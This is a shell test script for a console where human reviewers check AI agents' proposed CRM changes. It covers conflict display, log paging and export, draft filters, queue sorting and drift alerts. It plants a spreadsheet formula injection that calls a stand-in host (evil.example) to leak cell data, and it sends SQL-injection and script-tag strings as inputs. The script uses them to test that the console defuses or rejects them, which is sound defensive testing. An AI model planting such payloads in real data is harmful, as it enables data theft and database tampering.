#!/bin/sh
# console_views.sh — the console's API for the reviewer at volume (issues 17
# and 18), from the side of a hostile agent and a careless reviewer: a
# refresh from the CRM shows the CRM's value beside old → new; the log
# pages and exports what is shown (filters kept; a formula planted in a
# logged field is defused for spreadsheets); drafts carry account names and
# refuse unknown filters; the queue sorts by workflow and state and refuses
# unknown orders; drift speaks in words. Every bad parameter is a 400 that
# names it; nothing here answers without a session.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/console.inc"
trap 'console_stop; rm -rf "$T"' EXIT

console_book 600 || { notok "the demo book and reviewers"; exit 1; }
B1=$(console_propose 6 scout 0)
B2=$(console_propose 4 helper 100)
# an agent that writes a spreadsheet formula where it can: its claimed
# instruction version is logged as given
console_proposal "$T/f.json" 3 200
"$AIRLOCK" propose "$T/f.json" --as agent:mallory --instruction-version '=HYPERLINK("http://evil.example/?"&A1,"ok")' >/dev/null 2>&1
B3=$(sql "SELECT max(id) FROM batch")
same "three waiting batches" "$(sql "SELECT count(*) FROM batch WHERE state IN ('staged','blocked')")" 3
# ten days of a re-tier agent whose instructions change on day 8 and which
# starts over-tiering: drift has an alert to put into words
base=$(( ($(date +%s) / 86400 - 10) * 86400 ))
for d in 0 1 2 3 4 5 6 7 8 9; do
	python3 - "$d" "$AIRLOCK_DB" >"$T/drift.json" <<'PY'
import json, sqlite3, sys
d, db = int(sys.argv[1]), sqlite3.connect(sys.argv[2])
ids = [r[0] for r in db.execute(
    "SELECT id FROM account WHERE tier>1 ORDER BY id DESC LIMIT 30 OFFSET ?", (d * 30,))]
v2 = d >= 7
items = [{"record_id": i, "field": "tier", "reason": "daily re-tier",
          "value": (1 if k % 4 != 3 else 2) if v2 else (1 if k % 12 == 0 else 3 if k % 3 else 2)}
         for k, i in enumerate(ids)]
print(json.dumps({"workflow": "retier", "scope": "tier>=1", "rationale": "daily",
                  "instruction_version": "v2" if v2 else "v1", "items": items}))
PY
	AIRLOCK_NOW=$((base + d * 86400 + 36000)) "$AIRLOCK" propose "$T/drift.json" --as agent:tierbot \
		--instruction-version "$([ "$d" -ge 7 ] && echo v2 || echo v1)" >/dev/null 2>&1
done

# the CRM moved two records of B1 while it waits: account 2's employees
# (a field the batch does not touch) and account 3's tier (the one it does)
R2=$(sql "SELECT record_id FROM batch_item WHERE batch_id=$B1 AND idx=2")
R3=$(sql "SELECT record_id FROM batch_item WHERE batch_id=$B1 AND idx=3")
NEW3=$(sql "SELECT json_extract(changes,'$.tier') FROM batch_item WHERE batch_id=$B1 AND idx=3")
CRM3=$(( NEW3 % 4 + 1 ))
"$AIRLOCK" export accounts -o "$T/crm.csv" >/dev/null 2>&1
python3 - "$T/crm.csv" "$R2" "$R3" "$CRM3" <<'PY'
import csv, sys
path, r2, r3, t3 = sys.argv[1:5]
rows = list(csv.DictReader(open(path, newline="")))
for r in rows:
    if r["id"] == r2: r["employees"] = "98765"
    if r["id"] == r3: r["tier"] = t3
w = csv.DictWriter(open(path, "w", newline=""), fieldnames=rows[0].keys())
w.writeheader(); w.writerows(rows)
PY
expect 0 "the CRM's export comes back in with --refresh" "$AIRLOCK" import accounts "$T/crm.csv" --refresh
has "... and makes two conflicts" "$T/out" "refresh: 2 conflict"

console_serve || { notok "serve started" "$(cat "$T/serve.log")"; exit 1; }
req() {
	m=$1 p=$2
	shift 2
	curl -s -o "$T/body" -D "$T/hdr" -w '%{http_code}' -X "$m" "$@" "$BASE$p" >"$T/code"
}
code() { cat "$T/code"; }
jget() { python3 -c 'import json,sys; d=json.load(open(sys.argv[1]))
for k in sys.argv[2].split("."): d = d[int(k)] if isinstance(d, list) else d.get(k)
print(d if not isinstance(d,(dict,list)) else json.dumps(d, sort_keys=True))' "$T/body" "$1"; }
jpy() { python3 -c "import json,sys; d=json.load(open(sys.argv[1])); print($1)" "$T/body"; }

# nothing without a session, and an agent's token is no way in
req GET "/api/log?format=csv"
same "the log export without a session: 401" "$(code)" 401
req GET "/api/log?format=csv" -H "Authorization: Bearer x"
same "... with an agent's Authorization header: refused" "$(code)" 403
req GET "/api/queue?sort=state"
same "the sorted queue without a session: 401" "$(code)" 401
req POST /login -c "$T/alice" -H 'Content-Type: application/json' --data '{"name":"alice","password":"alice-password"}'
same "alice signs in" "$(code)" 200
CSRF=$(jget csrf)
A="-b $T/alice"

# --- 1. refresh conflicts: the CRM's value beside old → new
req GET "/api/batches/$B1" $A
same "batch $B1: the item whose record the CRM edited is a conflict" "$(jget item_list.1.conflict)" True
same "... with what the CRM changed on it" "$(jget item_list.1.crm.values)" '{"employees": 98765}'
same "... an item on a field the CRM also set carries the CRM's value beside old → new" \
	"$(jpy "[(x['field'], x['new'], x.get('crm')) for x in d['item_list'][2]['diff']]")" "[('tier', $NEW3, $CRM3)]"
same "... an item the CRM left alone has none" "$(jpy "'crm' in d['item_list'][0] or d['item_list'][0]['conflict']")" False

# --- 3. log: pages, exports, bad parameters
req GET "/api/log?limit=3" $A
same "log: a page of 3" "$(jpy "len(d['entries'])")" 3
same "... says there is more" "$(jget more)" True
P1=$(jpy "[e['seq'] for e in d['entries']]")
NB=$(jget next_before)
req GET "/api/log?limit=3&before=$NB" $A
same "the next page starts below the last shown" "$(jpy "all(e['seq'] < $NB for e in d['entries']) and len(d['entries']) == 3")" True
same "... and shares no entry with the first" "$(jpy "set(e['seq'] for e in d['entries']) & set($P1)")" "set()"
req GET "/api/log?batch=$B1&limit=1000&before=1" $A
same "the page before the first entry is empty and says so" "$(jpy "(len(d['entries']), d['more'])")" "(0, False)"
for bad in "before=abc" "before=-5" "before=0" "before=1e3" "limit=0" "limit=99999999999999999999"; do
	req GET "/api/log?$bad" $A
	same "log ?$bad: 400" "$(code)" 400
	has "... naming ${bad%%=*}" "$T/body" "\"${bad%%=*}: "
done
for bad in xml CSV "csv%2C" "%3Cscript%3E"; do
	req GET "/api/log?format=$bad" $A
	same "log ?format=$bad: 400" "$(code)" 400
	has "... naming format" "$T/body" '"format: .*not an export format'
done
has "... as JSON (the page shows it as text)" "$T/hdr" "Content-Type: application/json"
req POST "/api/log?format=csv" $A -H 'Content-Type: application/json' -d '{}'
same "a POST to the log export without the CSRF token: 403" "$(code)" 403
req POST "/api/log?format=csv" $A -H "X-CSRF-Token: $CSRF" -H 'Content-Type: application/json' -d '{}'
same "... with it: 405, the export is a read and changes nothing" "$(code)" 405
req GET "/api/log?batch=$B1&format=csv" $A
same "CSV export: 200" "$(code)" 200
has "... as CSV" "$T/hdr" "Content-Type: text/csv"
has "... a download" "$T/hdr" 'Content-Disposition: attachment; filename="airlock-log.csv"'
same "... a header row" "$(head -1 "$T/body" | tr -d '\r')" "seq,at,principal,surface,tool,instruction_version,decision,batch_id,summary,hash"
same "... the filter kept: every row is batch $B1's" \
	"$(python3 -c 'import csv,sys; print(sorted(set(r["batch_id"] for r in csv.DictReader(open(sys.argv[1], newline="")))))' "$T/body")" "['$B1']"
CSVSEQ=$(python3 -c 'import csv,sys; print([int(r["seq"]) for r in csv.DictReader(open(sys.argv[1], newline=""))])' "$T/body")
req GET "/api/log?batch=$B1" $A
same "... the same entries as the page shows" "$(jpy "[e['seq'] for e in d['entries']]")" "$CSVSEQ"
req GET "/api/log?batch=$B3&format=csv" $A
IV=$(python3 -c 'import csv,sys; print([r["instruction_version"] for r in csv.DictReader(open(sys.argv[1], newline=""))][0])' "$T/body")
case "$IV" in
"'="*) ok "a formula an agent planted in a logged field is exported with a leading ' (not run by a spreadsheet)" ;;
*) notok "a formula an agent planted in a logged field is exported with a leading '" "got: $IV" ;;
esac
hasnt "... no cell of the export starts with =" "$T/body" '(^|,)"?='
req GET "/api/log?tool=propose_changes&format=json&limit=2" $A
has "JSON export: a download" "$T/hdr" 'Content-Disposition: attachment; filename="airlock-log.json"'
same "... the same page, filters and limit kept" "$(jpy "(len(d['entries']), sorted(set(e['tool'] for e in d['entries'])), d['more'])")" "(2, ['propose_changes'], True)"

# --- 4. drafts: names, filters
set -- $(console_send mailer "Quarterly check-in" "Hi, a short note.")
D1=$1
ACC=$(sql "SELECT account_id FROM draft WHERE id='$D1'")
NAME=$(sql "SELECT name FROM account WHERE id='$ACC'")
req GET "/api/drafts" $A
same "drafts: each with its account's name" "$(jpy "[x.get('account_name') for x in d['drafts'] if x['id'] == '$D1']")" "['$NAME']"
req GET "/api/drafts?status=send_requested" $A
same "drafts ?status=send_requested: only those" "$(jpy "sorted(set(x['status'] for x in d['drafts']))")" "['send_requested']"
req GET "/api/drafts?status=%27%20OR%201=1--" $A
same "drafts ?status=' OR 1=1--: 400" "$(code)" 400
has "... naming status" "$T/body" '"status: unknown status'
req GET "/api/drafts?limit=-1" $A
same "drafts ?limit=-1: 400 naming limit" "$(code) $(jpy "d['error'].split(':')[0]")" "400 limit"

# --- 5. queue: sort by workflow, by state
req GET "/api/queue?sort=state" $A
same "queue ?sort=state: in the order a batch moves (staged, sampled, blocked, approved)" \
	"$(jpy "[b['state'] for b in d['batches']] == sorted([b['state'] for b in d['batches']], key=['staged','sampled','blocked','approved'].index)")" True
same "... and says which order" "$(jget sort)" state
same "... states present" "$(jpy "sorted(set(b['state'] for b in d['batches']))")" "['blocked', 'staged']"
req GET "/api/queue?sort=workflow" $A
same "queue ?sort=workflow: by workflow, each oldest first" \
	"$(jpy "[(b['workflow'], -b['age_seconds']) for b in d['batches']] == sorted((b['workflow'], -b['age_seconds']) for b in d['batches'])")" True
req GET "/api/queue?sort=agent" $A
same "queue ?sort=agent: by agent" "$(jpy "[b['principal'] for b in d['batches']] == sorted(b['principal'] for b in d['batches'])")" True
req GET "/api/queue" $A
same "queue by default: oldest first" "$(jpy "[b['age_seconds'] for b in d['batches']] == sorted((b['age_seconds'] for b in d['batches']), reverse=True)")" True
for bad in "age%3B%20DROP%20TABLE%20batch" "RADIUS" "%3Cimg%20src%3Dx%3E" "state%20"; do
	req GET "/api/queue?sort=$bad" $A
	same "queue ?sort=$bad: 400" "$(code)" 400
	has "... naming sort and the orders there are" "$T/body" '"sort: .*age, radius, workflow, state or agent'
done
same "... and the batches are all still there" "$(sql "SELECT count(*) FROM batch")" "$(( 3 + 10 + 1 ))"

# --- 2. drift in words
req GET /api/drift $A
same "drift: 200" "$(code)" 200
same "every metric has a title in words, no raw metric key" \
	"$(jpy "[m['title'] for m in d['metrics'] if '_' in m['title'] or '{' in m['title']]")" "[]"
same "... and a unit" "$(jpy "sorted(set(m['unit'] for m in d['metrics'])) <= ['count','mix','ratio','share']")" True
has "... the tier-1 share named as a manager reads it" "$T/body" '"title":"share of re-tiers to tier 1, workflow retier"'
same "a metric with fewer than 3 windows of data is not charted" \
	"$(jpy "all((len(m['points']) >= 3) == m['chartable'] for m in d['metrics'])")" True
ALERT=$(jpy "' | '.join(a['verdict'] for a in d['alerts'] if a['metric'] == 'tier1_share{retier}')")
case "$ALERT" in
*"× the usual share of re-tiers to tier 1, workflow retier, since "*"after agent:tierbot began using instruction version v2"*)
	ok "the tier-1 alert's verdict in words: how far, since when, after what" ;;
*) notok "the tier-1 alert's verdict in words" "got: $ALERT" "$(jpy "[a['verdict'] for a in d['alerts']]")" ;;
esac
MIX=$(jpy "' | '.join(a['verdict'] for a in d['alerts'] if a['metric'] == 'tier_mix{retier}')")
case "$MIX" in
"the mix of tiers that re-tiers set, workflow retier, narrowed since "*"values in common use against a usual"*) ok "a mix's alert says it narrowed, in values in common use" ;;
"") echo "# SKIP no mix alert on this book" ;;
*) notok "a mix's alert says it narrowed, in values in common use" "got: $MIX" ;;
esac
same "... no test statistic in the verdict" "$(jpy "[a['verdict'] for a in d['alerts'] if 'two_proportion' in a['verdict'] or 'threshold' in a['verdict']]")" "[]"

console_stop
hasnt "serve stopped with no sanitizer report" "$T/serve.log" "ERROR: (Address|Leak)Sanitizer|runtime error"
